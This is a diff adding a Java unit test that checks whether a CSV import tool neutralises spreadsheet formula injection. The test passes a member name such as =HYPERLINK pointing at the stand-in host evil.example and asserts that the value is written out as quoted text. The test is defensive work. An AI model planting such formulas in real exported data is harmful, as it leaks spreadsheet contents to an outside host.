@@ -129,4 +129,24 @@ class ImportCommandTest {
         assertEquals(1, s.get("sources").get("members").get("fieldsRejected").get("country").asInt());
         assertEquals(3, s.get("sources").get("members").get("fieldSamples").get(0).get("line").asInt());
     }
+
+    @Test
+    void namesThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws IOException {
+        Files.writeString(dir.resolve("members.csv"), """
+                member,name
+                M1,=HYPERLINK("http://evil.example/?x"&A1)
+                M2,"Novak, Jana"
+                """);
+        Files.writeString(dir.resolve("sources.json"), """
+                {"sources": [{"name": "members", "kind": "profiles", "file": "members.csv",
+                              "columns": {"id": "member", "name": "name"}}]}""");
+        Path out = dir.resolve("out");
+        SegmentCommandTest.Run r = run("import", "--config", dir.resolve("sources.json").toString(),
+                "--output-dir", out.toString(), "--summary-json", dir.resolve("import.json").toString());
+        assertEquals(0, r.exit(), r.err());
+        List<String> customers = Files.readAllLines(out.resolve("customers.csv"));
+        assertTrue(customers.get(1).startsWith("members:M1,\"'=HYPERLINK(\"\"http://evil.example/?x\"\"&A1)\","),
+                customers.get(1));
+        assertTrue(customers.get(2).startsWith("members:M2,\"Novak, Jana\","), customers.get(2));
+    }
 }
